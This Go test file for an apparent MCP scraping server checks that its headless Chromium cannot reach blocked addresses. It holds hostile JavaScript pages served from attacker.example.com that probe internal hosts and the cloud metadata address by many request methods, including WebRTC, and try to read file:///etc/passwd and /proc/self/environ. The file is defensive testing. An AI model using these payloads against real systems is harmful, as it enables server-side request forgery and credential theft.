package main

import (
	"context"
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/axon-mcp/axon-mcp/fault"
)

// chromeProxy is where the browser's proxy listens in these tests: the one
// address that Chromium may talk to.
const chromeProxy = "127.0.0.1:9280"

// attacks are pages that make a browser ask for every URL of the list U, each in
// its own way; what a page asks for last, B, is public and must be reached, or
// the way is none.
func attacks() map[string]string {
	return map[string]string{
		"image":         `for (const u of [...U, B]) { const i = new Image(); i.src = u; document.body.append(i); }`,
		"fetch":         `for (const u of [...U, B]) fetch(u, { mode: 'no-cors' }).catch(() => {});`,
		"post":          `for (const u of [...U, B]) fetch(u, { mode: 'no-cors', method: 'POST', body: 'x' }).catch(() => {});`,
		"xhr":           `for (const u of [...U, B]) try { const x = new XMLHttpRequest(); x.open('GET', u); x.send(); } catch {}`,
		"beacon":        `for (const u of [...U.slice(0, 60), B]) try { navigator.sendBeacon(u, 'x'); } catch {}`,
		"websocket":     `for (const u of [...U.slice(0, 200), B]) try { new WebSocket(u.replace(/^http/, 'ws')); } catch {}`,
		"eventsource":   `for (const u of [...U, B]) try { new EventSource(u); } catch {}`,
		"iframe":        `for (const u of [...U.slice(0, 40), B]) { const f = document.createElement('iframe'); f.src = u; document.body.append(f); }`,
		"form":          `for (const u of [...U.slice(40, 60), B]) { const n = 'f' + Math.random(), f = document.createElement('iframe'), g = document.createElement('form'); f.name = n; g.target = n; g.action = u; g.method = 'post'; document.body.append(f, g); g.submit(); }`,
		"css":           `for (const u of [...U, B]) { const d = document.createElement('div'); d.style.backgroundImage = 'url(' + JSON.stringify(u) + ')'; d.textContent = 'x'; document.body.append(d); }`,
		"stylesheet":    `for (const u of [...U, B]) { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = u; document.head.append(l); }`,
		"font":          `for (const u of [...U, B]) new FontFace('f', 'url(' + JSON.stringify(u) + ')').load().catch(() => {});`,
		"script":        `for (const u of [...U, B]) { const s = document.createElement('script'); s.src = u; document.head.append(s); }`,
		"video":         `for (const u of [...U.slice(0, 60), B]) { const v = document.createElement('video'); v.preload = 'auto'; v.src = u; document.body.append(v); }`,
		"prefetch":      `for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload']) for (const u of [...U, B]) { const l = document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = u; document.head.append(l); }`,
		"redirect":      `for (const u of [...U, B]) fetch('/redirect?to=' + encodeURIComponent(u), { mode: 'no-cors' }).catch(() => {});`,
		"worker":        `const w = new Worker(URL.createObjectURL(new Blob(['onmessage = (e) => { for (const u of e.data) fetch(u, { mode: "no-cors" }).catch(() => {}); }']))); w.postMessage([...U, B]);`,
		"serviceworker": `navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then((r) => r.active.postMessage([...U, B]));`,
	}
}

// quiet are attacks by which nothing at all may be reached.
func quiet() map[string]string {
	return map[string]string{
		"open":   `for (const u of [...U.slice(0, 40), B]) try { window.open(u); } catch {}`,
		"webrtc": `const servers = ['10.0.0.1', '127.0.0.1', '169.254.169.254', '93.184.215.14'].flatMap((h) => ['stun:' + h + ':3478', 'turn:' + h + ':3478']).map((urls) => ({ urls, username: 'u', credential: 'c' })); for (const s of servers) { const p = new RTCPeerConnection({ iceServers: [s] }); p.onicecandidate = (e) => { if (e.candidate) { document.body.append('LEAK ' + e.candidate.candidate); fetch('/leak'); } }; p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); }`,
		"schemes": `for (const u of ['file:///etc/passwd', 'file:///proc/self/environ', 'chrome://version/', 'view-source:http://127.0.0.1/', 'devtools://devtools/bundled/inspector.html', 'ftp://127.0.0.1/', 'chrome-extension://x/', 'filesystem:http://127.0.0.1/', 'about:version']) {
			const f = document.createElement('iframe'); f.src = u; f.onload = () => { try { if (f.contentDocument.body.textContent.includes('root:')) fetch('/leak'); } catch {} }; document.body.append(f);
			fetch(u).then((r) => r.text()).then((text) => text.includes('root:') && fetch('/leak')).catch(() => {}); try { window.open(u); } catch {} }
			setTimeout(() => { location = 'file:///etc/passwd'; }, 10);`,
	}
}

// attacker serves the attacks and notes what was reached.
type attacker struct {
	list    []byte // JSON
	mu      sync.Mutex
	news    *sync.Cond
	reached map[string]bool // by host
	leaked  bool
}

func newAttacker(t *testing.T, list []string) *attacker {
	t.Helper()
	a := &attacker{reached: map[string]bool{}}
	a.news = sync.NewCond(&a.mu)
	var err error
	if a.list, err = json.Marshal(list); err != nil {
		t.Fatal(err)
	}
	return a
}

// wait returns when host was reached, or ctx has ended.
func (a *attacker) wait(ctx context.Context, host string) {
	defer context.AfterFunc(ctx, func() {
		a.mu.Lock()
		defer a.mu.Unlock()
		a.news.Broadcast()
	})()
	a.mu.Lock()
	defer a.mu.Unlock()
	for !a.reached[host] && ctx.Err() == nil {
		a.news.Wait()
	}
}

func (a *attacker) ServeHTTP(rw http.ResponseWriter, r *http.Request) {
	host, _, _ := strings.Cut(r.Host, ":")
	rw.Header().Set("Content-Type", "text/html; charset=utf-8")
	a.mu.Lock()
	if !a.reached[host] {
		a.reached[host] = true
		a.news.Broadcast()
	}
	a.leaked = a.leaked || r.URL.Path == "/leak"
	a.mu.Unlock()
	name := strings.TrimPrefix(r.URL.Path, "/")
	script := attacks()[name] + quiet()[name]
	switch {
	case name == "hold": // the page stays until its last request has come, or none can be waited for
		way, ctx, patience := r.URL.Query().Get("name"), r.Context(), 10*time.Second
		if quiet()[way] != "" {
			patience = time.Second
		}
		ctx, cancel := context.WithTimeout(ctx, patience)
		defer cancel()
		a.wait(ctx, "b-"+way+".example.com")
	case name == "redirect" && r.URL.Query().Has("to"):
		rw.Header()["Location"] = []string{r.URL.Query().Get("to")}
		rw.WriteHeader(http.StatusFound)
	case name == "sw.js":
		rw.Header().Set("Content-Type", "text/javascript")
		_, _ = rw.Write([]byte(`onactivate = (e) => e.waitUntil(clients.claim()); onmessage = (e) => e.waitUntil(Promise.allSettled(e.data.map((u) => fetch(u, { mode: 'no-cors' }))));`))
	case script != "":
		_, _ = fmt.Fprintf(rw, `<!doctype html><title>%s</title><body>%s<script>const U = %s, B = 'http://b-%s.example.com/';
fetch('/hold?name=%s'); %s</script>`, name, strings.Repeat("<p>a page like any other", 20), a.list, name, name, script)
	default:
		_, _ = rw.Write([]byte("<!doctype html><title>Reached</title><p>You reached it"))
	}
}

// run lets one attack happen.
func (a *attacker) run(t *testing.T, w *world, client *server, name string) {
	t.Helper()
	url := "http://attacker.example.com/" + name
	if name == "serviceworker" {
		url = "http://localhost:3000/" + name
	}
	var got struct{ Status int }
	err := client.call(t.Context(), "screenshot", map[string]any{"url": url, "full_page": false}, &got, nil)
	if (err != nil || got.Status != 200) && name != "schemes" { // where that leads, nothing is to be seen
		t.Errorf("%v %+v", err, got)
	}
	w.checkSentByChrome(t, name)
	a.mu.Lock()
	defer a.mu.Unlock()
	if attacks()[name] != "" && !a.reached["b-"+name+".example.com"] {
		t.Error("nothing was reached: the attack is none")
	}
	if a.leaked {
		t.Error("something leaked")
	}
}

// checkSentByChrome is checkSent, but for the way to the proxy.
func (w *world) checkSentByChrome(t *testing.T, what string) {
	t.Helper()
	table := addressRanges(t)
	for to, n := range w.seen.take(t) {
		if to.String() == chromeProxy {
			continue
		}
		if table.hold(to.Addr()) || to.Port() == 22 || to.Port() == 5432 || to.Port() == 6379 || to.Port() == 3478 {
			t.Errorf("%s: %d packets were sent to %s", what, n, to)
		}
	}
}

// chromeWorld is a world with a program whose browser works.
func chromeWorld(t *testing.T, names map[string]string) (*world, *program) {
	t.Helper()
	w := newWorld(t, names)
	_, errShell := os.Stat("/usr/lib/chromium/chromium-headless-shell")
	if _, err := exec.LookPath("chromium"); err != nil && errShell != nil {
		missing(t, "chromium is not installed: scripts/setup-test.sh brings it")
	}
	// WebRTC leaves loopback alone, and needs a way out to try.
	for _, line := range []string{"link add axon0 type veth peer name axon1", "link set axon1 up", "address add 20.1.1.1/24 dev axon0", "link set axon0 up"} {
		if out, err := exec.CommandContext(t.Context(), "ip", strings.Fields(line)...).CombinedOutput(); err != nil && !strings.Contains(string(out), "exists") && !strings.Contains(string(out), "assigned") {
			t.Logf("ip %s: %v %s", line, err, out)
		}
	}
	// localhost stands for a secure origin, which service workers need; here it
	// is a name like any other.
	return w, w.program("AXON_CHROME_PROXY_LISTEN="+chromeProxy, "AXON_ALLOW_HOSTS=localhost:3000")
}

// TestInsideChrome: pages make Chromium ask for every URL of the table that must
// be blocked, in every way that a page has. No packet is sent to a blocked
// address, and each way does reach what is public.
func TestInsideChrome(t *testing.T) {
	rows, names := hostileURLs(t)
	names["localhost"] = public
	var list []string
	for i, row := range rows {
		if i%6 != 0 && os.Getenv("AXON_E2E") == "" {
			continue // each page takes seconds with all of them
		}
		if !row.allow && !row.flips && !strings.HasPrefix(row.trick, "dns empty") {
			list = append(list, strings.ToValidUTF8(row.url, "\uFFFD"))
		}
	}
	for port := range strings.SplitSeq("22 80 443 3000 5432 6379 8080", " ") {
		for _, host := range []string{"127.0.0.1", "localhost", "[::1]", "10.0.0.1", "169.254.169.254", "[fd00:ec2::254]", "192.168.1.1", "0.0.0.0"} {
			if host+port != "localhost3000" {
				list = append(list, "http://"+host+":"+port+"/x")
			}
		}
	}
	w, p := chromeWorld(t, names)
	a := newAttacker(t, list)
	w.answer(a.ServeHTTP)
	client := p.stdio()
	defer client.kill(t)
	for _, name := range append(slices.Sorted(maps.Keys(attacks())), slices.Sorted(maps.Keys(quiet()))...) {
		t.Run(name, func(t *testing.T) { a.run(t, w, client, name) })
	}
	if t.Failed() {
		t.Log(client.stderr.String())
	}
}

// TestInsideChromeTop: the same for the page itself: names that resolve to what
// is blocked, redirects, and scripts that lead there.
func TestInsideChromeTop(t *testing.T) {
	rows, names := hostileURLs(t)
	w, p := chromeWorld(t, names)
	var mu sync.Mutex
	reached := map[string]int{}
	w.answer(func(rw http.ResponseWriter, r *http.Request) {
		mu.Lock()
		reached[r.Host]++
		mu.Unlock()
		rw.Header().Set("Connection", "close")
		rw.Header().Set("Content-Type", "text/html; charset=utf-8")
		to := r.URL.Query().Get("to")
		switch r.URL.Path {
		case "/redirect":
			rw.Header()["Location"] = []string{to}
			rw.WriteHeader(http.StatusFound)
		case "/script":
			quoted, _ := json.Marshal(to)
			_, _ = fmt.Fprintf(rw, `<!doctype html><body>wait<script>location = %s</script>`, quoted)
		default:
			_, _ = rw.Write([]byte("<!doctype html><title>Reached</title><main><h1>Reached</h1><p>You reached " + r.Host))
		}
	})
	client := p.stdio()
	defer client.kill(t)
	whole := os.Getenv("AXON_E2E") != ""
	for i, row := range rows {
		dns := strings.HasPrefix(row.trick, "dns ") && !row.flips
		urls := []string{}
		if dns || whole && row.allow {
			urls = append(urls, row.url)
		}
		if whole && !row.allow || !row.allow && i%40 == 0 {
			for _, way := range []string{"redirect", "script"} {
				urls = append(urls, "http://attacker.example.com/"+way+"?to="+queryEscape(row.url))
			}
		}
		for _, url := range urls {
			if strings.HasPrefix(url, "https://") {
				continue // Chromium does not know our authority
			}
			var got scraped
			err := client.call(t.Context(), "scrape", map[string]any{"url": url, "render": "chrome"}, &got, nil)
			switch {
			case row.allow && err != nil:
				t.Errorf("%q (%s): %v", url, row.trick, err)
			case !row.allow && err == nil && url == row.url: // what a browser makes of odd spellings in a page may be public
				t.Errorf("%q (%s) was read", url, row.trick)
			case dns && !row.allow && fault.CodeOf(err) != fault.URLBlocked && row.trick != "dns empty answer":
				t.Errorf("%q (%s): got %v", url, row.trick, err)
			}
		}
	}
	w.checkSentByChrome(t, "top document")
	if t.Failed() {
		t.Log(client.stderr.String())
	}
}

// queryEscape escapes every byte that is no letter or digit.
func queryEscape(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		if c >= '0' && c <= '9' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' {
			b.WriteByte(c)
			continue
		}
		fmt.Fprintf(&b, "%%%02X", c)
	}
	return b.String()
}

// TestInsideChromeProxy: another process on this machine gets nothing out of the
// browser's proxy, while it works.
func TestInsideChromeProxy(t *testing.T) {
	w, p := chromeWorld(t, nil)
	client := p.stdio()
	defer client.kill(t)
	var got scraped
	if err := client.call(t.Context(), "scrape", map[string]any{"url": "http://a.example.com/", "render": "chrome"}, &got, nil); err != nil {
		t.Fatalf("%v\n%s", err, client.stderr)
	}
	for _, args := range [][]string{
		{"http://a.example.com/"},
		{"-p", "http://a.example.com/"},
		{"-U", "user:guess", "http://a.example.com/"},
		{"-U", "user:guess", "-p", "http://10.0.0.1/"},
	} {
		out, err := exec.CommandContext(t.Context(), "curl", append([]string{"-s", "-m", "5", "-o", "/dev/null", "-w", "%{http_code} %{http_connect}", "-x", "http://" + chromeProxy}, args...)...).Output()
		if !strings.Contains(string(out), "407") {
			t.Errorf("%v: got %q, %v", args, out, err)
		}
	}
	for to := range w.seen.take(t) {
		if to != netip.MustParseAddrPort(chromeProxy) && to.Addr() != netip.MustParseAddr(public) {
			t.Errorf("a packet was sent to %s", to)
		}
	}
}

// TestInsideChromeAuto: an empty shell is read in the browser by scrape and
// crawl, and without a browser as it is.
func TestInsideChromeAuto(t *testing.T) {
	w, p := chromeWorld(t, nil)
	w.answer(func(rw http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			rw.WriteHeader(http.StatusNotFound)
			return
		}
		rw.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = rw.Write([]byte(`<!doctype html><title>App</title><noscript>You need to enable JavaScript to run this app.</noscript><div id="root"></div>
<script>document.getElementById('root').innerHTML = '<main><h1>By script</h1><p>' + 'Words that only a script writes. '.repeat(20) + '</main>'</script>`))
	})
	const written = "only a script writes"
	client := p.stdio()
	defer client.kill(t)
	var got scraped
	if err := client.call(t.Context(), "scrape", map[string]any{"url": "http://app.example.com/"}, &got, nil); err != nil || !strings.Contains(*got.Pages[0].Markdown, written) {
		t.Errorf("scrape: %v %+v\n%s", err, got, client.stderr)
	}
	for _, render := range []string{"auto", "chrome"} {
		crawled := map[string]any{"urls": []string{"http://app.example.com/"}, "render": render, "wait": true, "collection": render, "sitemap": false}
		if err := client.call(t.Context(), "crawl", crawled, &map[string]any{}, nil); err != nil {
			t.Errorf("crawl %s: %v", render, err)
		}
		var stored struct{ Markdown string }
		if err := client.call(t.Context(), "retrieve", map[string]any{"url": "http://app.example.com/", "collection": render}, &stored, nil); err != nil || !strings.Contains(stored.Markdown, written) {
			t.Errorf("crawl %s stored: %v %+v", render, err, stored)
		}
	}
	without := w.program("AXON_CHROME_PATH=/nonexistent/chromium")
	if out := without.run("scrape", "http://app.example.com/"); out.code != 0 || !strings.Contains(out.stdout, "status 200") || strings.Contains(out.stdout, written) {
		t.Errorf("without a browser: %+v", out)
	}
	for _, args := range [][]string{{"scrape", "http://app.example.com/", "--render", "chrome"}, {"screenshot", "http://app.example.com/"}, {"crawl", "http://app.example.com/", "--render", "chrome"}} {
		if out := without.run(args...); out.code != 1 || !strings.Contains(out.stderr, "unavailable") || !strings.Contains(out.stderr, "AXON_CHROME_PATH") {
			t.Errorf("%v without a browser: %+v", args, out)
		}
	}
}
